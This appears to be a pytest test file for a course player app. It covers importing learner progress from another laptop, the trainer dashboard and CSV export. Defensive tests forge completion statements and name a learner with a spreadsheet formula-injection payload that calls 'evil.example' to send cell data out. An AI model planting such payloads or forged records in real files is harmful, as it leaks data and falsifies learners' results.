"""A scripted workshop: 3 learners on 2 laptops, laptop B's progress carried to A by USB."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from player.cli import main
from player.core.context import Context, open_context
from player.core.errors import LearningError
from player.core.install import install, open_source
from player.core.learning import create_learner, record_reading
from player.core.package.pack import pack
from player.core.paths import DataDir
from player.core.sync.imported_statements import iso_seconds
from player.core.sync.merge import CourseIndex
from player.core.sync.progress_files import export_progress, import_progress
from player.core.sync.service import activity_bases, manifests_of
from player.core.sync.statements import VERB_COMPLETED, VERB_PASSED, VERB_SATISFIED
from player.core.trainer_table import (
    FORMULA_STARTS,
    DashboardRow,
    csv_cell,
    dashboard_table,
    learner_summary,
    module_chart,
    write_csv,
)
from tests.core.learning_fixtures import take_quiz, watch_video
from tests.helpers.courses import write_source

ALL_RIGHT = {"q1": "b", "q2": ["a", "c"], "q3": True, "q4": "reformuler"}
HALF_RIGHT = {"q1": "b", "q2": ["b"], "q3": True, "q4": "non"}
ONE_RIGHT = {"q1": "a", "q2": ["b"], "q3": True, "q4": "non"}


def laptop(tmp_path: Path, name: str, package: Path) -> Context:
    ctx = open_context(DataDir(tmp_path / name))
    source = open_source(str(package))
    try:
        install(ctx, source)
    finally:
        source.close()
    return ctx


@pytest.fixture
def workshop(tmp_path: Path) -> Iterator[tuple[Context, Context, Path]]:
    """Alice works on laptop A; Bruno and Chloé on laptop B, whose file is exported."""
    package = pack(write_source(tmp_path / "src"), tmp_path / "course.zip").dest
    a, b = laptop(tmp_path, "laptop-a", package), laptop(tmp_path, "laptop-b", package)
    try:
        course_a, course_b = a.manifest("test-course"), b.manifest("test-course")

        alice = create_learner(a.db, "Alice", email="alice@example.org").id
        watch_video(a.db, alice, course_a, "m1-intro")
        record_reading(a.db, alice, course_a, "m1-read", elapsed=30, at_end=True)
        take_quiz(a.db, alice, course_a, "m1-quiz", ALL_RIGHT)

        bruno = create_learner(b.db, "Bruno").id
        watch_video(b.db, bruno, course_b, "m1-intro")
        record_reading(b.db, bruno, course_b, "m1-read", elapsed=30, at_end=True)
        take_quiz(b.db, bruno, course_b, "m1-quiz", HALF_RIGHT)  # 0.5 ≥ 0.4: passed
        record_reading(b.db, bruno, course_b, "m2-read", elapsed=12, at_end=True)
        take_quiz(b.db, bruno, course_b, "m2-quiz", {"q1": False})

        chloe = create_learner(b.db, "Chloé", email="chloe@example.org").id
        watch_video(b.db, chloe, course_b, "m1-intro", upto=10)
        take_quiz(b.db, chloe, course_b, "m1-quiz", ONE_RIGHT)  # 0.25: failed

        stick_file = tmp_path / "stick" / "laptop-b.jsonl"
        stick_file.parent.mkdir()
        report = export_progress(b.db, stick_file, activity_bases(manifests_of(b)))
        assert report.statements > 0
        yield a, b, stick_file
    finally:
        a.close()
        b.close()


def import_file(ctx: Context, path: Path) -> object:
    return import_progress(ctx.db, path, CourseIndex.load(ctx.db, manifests_of(ctx)))


def by_learner(rows: list[DashboardRow]) -> dict[tuple[str, str], DashboardRow]:
    return {(r.learner_name, r.module_id): r for r in rows}


def test_dashboard_merges_laptop_b_and_counts_a_file_once(workshop) -> None:
    a, _b, stick_file = workshop
    before = dashboard_table(a)
    assert {r.learner_name for r in before} == {"Alice"}

    first = import_file(a, stick_file)
    assert first.queued > 0 and not first.rejected  # type: ignore[attr-defined]
    rows = dashboard_table(a, "test-course")
    again = import_file(a, stick_file)
    assert again.queued == 0 and again.duplicates == first.queued  # type: ignore[attr-defined]
    assert dashboard_table(a, "test-course") == rows  # the second import counts for nothing

    table = by_learner(rows)
    assert sorted(table) == [
        ("Alice", "m1"),
        ("Alice", "m2"),
        ("Bruno", "m1"),
        ("Bruno", "m2"),
        ("Chloé", "m1"),
        ("Chloé", "m2"),
    ]
    alice, alice2 = table[("Alice", "m1")], table[("Alice", "m2")]
    assert (alice.source, alice.state, alice.best_quiz_score) == ("here", "complete", 1.0)
    assert alice.lessons_done == alice.lessons_total == 3
    assert alice.learner_key == "mailto:alice@example.org"
    assert alice.module_completed_at and alice.last_activity
    assert alice.time_spent_s >= 50  # 20 s of video + 30 s of reading
    assert alice.sync_state == "waiting" and alice.sync_waiting > 0
    assert (alice2.state, alice2.lessons_done, alice2.best_quiz_score) == ("open", 0, None)
    assert not alice.course_complete

    bruno, bruno2 = table[("Bruno", "m1")], table[("Bruno", "m2")]
    assert bruno.source == "imported" and bruno.learner_id is None
    assert bruno.learner_key.startswith("account:")
    assert (bruno.state, bruno.lessons_done, bruno.best_quiz_score) == ("complete", 3, 0.5)
    assert (bruno2.state, bruno2.lessons_done, bruno2.best_quiz_score) == ("complete", 2, 1.0)
    assert bruno.course_complete and bruno2.course_complete
    assert bruno.time_spent_s >= 30  # the reading's time travels in the statement
    assert bruno.sync_state == "waiting"

    chloe, chloe2 = table[("Chloé", "m1")], table[("Chloé", "m2")]
    assert chloe.learner_key == "mailto:chloe@example.org"
    assert (chloe.state, chloe.lessons_done, chloe.best_quiz_score) == ("open", 0, 0.25)
    assert chloe.last_activity is not None
    assert (chloe2.state, chloe2.last_activity) == ("not_reported", None)

    chart = {bar.module_id: bar for bar in module_chart(rows)}
    assert (chart["m1"].learners, chart["m1"].completed) == (3, 2)
    assert chart["m1"].average_best_score == pytest.approx((1.0 + 0.5 + 0.25) / 3)
    assert (chart["m2"].completed, chart["m2"].average_best_score) == (1, 1.0)


def test_csv_export_is_the_dashboard_table(workshop) -> None:
    a, _b, stick_file = workshop
    import_file(a, stick_file)
    rows = dashboard_table(a)
    out = io.StringIO()
    assert write_csv(rows, out) == 6
    parsed = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert list(parsed[0]) == DashboardRow.columns()
    assert [(r["learner_name"], r["module_id"], r["state"]) for r in parsed] == [
        (r.learner_name, r.module_id, r.state) for r in rows
    ]
    empty = io.StringIO()
    assert write_csv([], empty) == 0 and empty.getvalue().strip() == ",".join(
        DashboardRow.columns()
    )


def test_progress_csv_command_gives_the_same_table(
    workshop, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    a, _b, stick_file = workshop
    import_file(a, stick_file)
    expected = io.StringIO()
    write_csv(dashboard_table(a, "test-course"), expected)
    monkeypatch.setenv("COURSE_PLAYER_HOME", str(a.data.root))
    assert main(["progress", "--csv", "--raw", "--course", "test-course"]) == 0
    assert capsys.readouterr().out == expected.getvalue()


def test_learner_summary(workshop) -> None:
    a, _b, stick_file = workshop
    import_file(a, stick_file)
    bruno = learner_summary(a, "bruno", "test-course")
    assert bruno.course_complete and bruno.modules_completed == 2
    assert bruno.course_completed_at is not None
    alice = learner_summary(a, "Alice", "test-course")
    assert not alice.course_complete and alice.modules_completed == 1
    assert alice.last_activity is not None and alice.time_spent_s >= 50
    with pytest.raises(LearningError, match="No learner 'Zoé'"):
        learner_summary(a, "Zoé", "test-course")
    with pytest.raises(LearningError, match="No course 'nope'"):
        learner_summary(a, "Alice", "nope")


def test_iso_durations() -> None:
    assert iso_seconds("PT1M3.5S") == 63.5
    assert iso_seconds("PT2H") == 7200
    assert iso_seconds("P1DT1S") == 86401
    assert iso_seconds("soon") == 0 and iso_seconds(None) == 0


def forged_copy(template: dict, verb: str, object_id: str, **changes: object) -> dict:
    statement = json.loads(json.dumps(template)) | {"id": str(uuid.uuid4()), "result": {}}
    statement |= changes
    statement["verb"] = {"id": verb, "display": {"en-US": verb.rsplit("/", 1)[-1]}}
    statement["object"] = {"id": object_id, "objectType": "Activity"}
    statement.setdefault("result", {}).pop("score", None)
    return statement


def chloe_forgery(stick_file: Path, name: str | None = None) -> list[dict]:
    """Chloé's real statements (a failed quiz), plus claims that she completed everything."""
    real = [json.loads(line) for line in stick_file.read_text(encoding="utf-8").splitlines()]
    chloe = [s for s in real if s["actor"].get("mbox") == "mailto:chloe@example.org"]
    course = next(s["object"]["id"] for s in chloe if s["verb"]["id"].endswith("/initialized"))
    claims = [
        forged_copy(chloe[0], VERB_SATISFIED, f"{course}/modules/m1"),
        forged_copy(chloe[0], VERB_SATISFIED, f"{course}/modules/m2"),
        forged_copy(chloe[0], VERB_SATISFIED, course),
        forged_copy(chloe[0], VERB_COMPLETED, f"{course}/lessons/no-such-lesson"),
        forged_copy(chloe[0], VERB_PASSED, f"{course}/lessons/m1-quiz", result={"success": False}),
        forged_copy(chloe[0], VERB_COMPLETED, f"{course}/lessons/m1-intro"),
    ]
    claims[-1]["context"]["revision"] = "99"  # not the installed version
    statements = chloe + claims
    if name is not None:
        for statement in statements:
            statement["actor"]["name"] = name
    return statements


def test_a_forged_file_cannot_complete_an_imported_learners_modules(workshop) -> None:
    a, _b, stick_file = workshop
    forged = stick_file.with_name("chloe-forged.jsonl")
    forged.write_text("".join(json.dumps(s) + "\n" for s in chloe_forgery(stick_file)), "utf-8")
    report = import_file(a, forged)
    assert report.queued == len(chloe_forgery(stick_file))  # type: ignore[attr-defined]
    table = by_learner(dashboard_table(a, "test-course"))
    chloe, chloe2 = table[("Chloé", "m1")], table[("Chloé", "m2")]
    assert (chloe.state, chloe.lessons_done, chloe.module_completed_at) == ("open", 0, None)
    assert chloe2.state != "complete" and not chloe.course_complete
    assert chloe.imported_from == "chloe-forged.jsonl"
    # the real file's learners still complete by their lessons, and say where they came from
    import_file(a, stick_file)
    table = by_learner(dashboard_table(a, "test-course"))
    assert table[("Bruno", "m2")].state == "complete" and table[("Bruno", "m2")].course_complete
    assert table[("Bruno", "m1")].imported_from == "laptop-b.jsonl"
    assert table[("Chloé", "m1")].imported_from == "chloe-forged.jsonl"  # the file read first
    assert table[("Alice", "m1")].imported_from == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_a_spreadsheet_would_evaluate_are_escaped(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert (
        csv_cell(f"a{start}") == f"a{start}" and csv_cell(-1.5) == -1.5 and csv_cell(None) is None
    )


def test_csv_export_of_a_learner_named_like_a_formula(workshop) -> None:
    a, _b, stick_file = workshop
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Chloé")'
    forged = stick_file.with_name("formula.jsonl")
    statements = chloe_forgery(stick_file, name=formula)
    forged.write_text("".join(json.dumps(s) + "\n" for s in statements), "utf-8")
    import_file(a, forged)
    out = io.StringIO()
    write_csv(dashboard_table(a, "test-course"), out)
    names = [row["learner_name"] for row in csv.DictReader(io.StringIO(out.getvalue()))]
    assert "'" + formula in names and formula not in names
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


def test_every_csv_writer_is_write_csv() -> None:
    """CSV escaping lives in one function: no other module of the app writes CSV."""
    root = Path(__file__).resolve().parents[2] / "player"
    writers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    }
    assert writers == {"core/trainer_table.py"}


def test_import_progress_command_summary_counts_every_line(
    workshop, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    a, _b, stick_file = workshop
    statements = chloe_forgery(stick_file)  # Chloé is not known here: queued, not merged
    alice = {"mbox": "mailto:alice@example.org", "name": "Alice", "objectType": "Agent"}
    for claim in statements[-6:-2]:  # Alice (known here) did complete m1, and nothing else
        statements.append(claim | {"id": str(uuid.uuid4()), "actor": alice})
    lines = [json.dumps(s) for s in statements] + ["not json", json.dumps(statements[0])]
    forged = stick_file.with_name("mixed.jsonl")
    forged.write_text("\n".join(lines) + "\n", "utf-8")
    monkeypatch.setenv("COURSE_PLAYER_HOME", str(a.data.root))
    assert main(["import-progress", str(forged)]) == 1
    err = capsys.readouterr().err.splitlines()
    count = len(statements)
    assert err[-1] == (
        f"{forged}: {count + 2} line(s) read: {count} new statement(s) queued for sync"
        f" (1 merged into local progress, 6 not merged and reported), 1 already here, 1 rejected."
    )
    problems = {
        int(line.split(": line ", 1)[1].split(":")[0]): line.split(": ", 2)[2] for line in err[:-1]
    }
    # Chloé's statements the installed course cannot take are reported too; her claims are
    # left to the dashboard (which derives them from her lessons)
    assert sorted(problems) == [count - 6, count - 5, count - 4, *range(count - 2, count + 2)]
    assert "lesson 'no-such-lesson' is not in 'test-course' version 1" in problems[count - 6]
    assert "with result.success false" in problems[count - 5]
    assert "version 99 of 'test-course', newer than the installed" in problems[count - 4]
    assert "module 'm2' is not complete here" in problems[count - 2]
    assert "course 'test-course' is not complete here" in problems[count - 1]
    assert "lesson 'no-such-lesson' is not in 'test-course' version 1" in problems[count]
    assert problems[count + 1].startswith("not JSON")
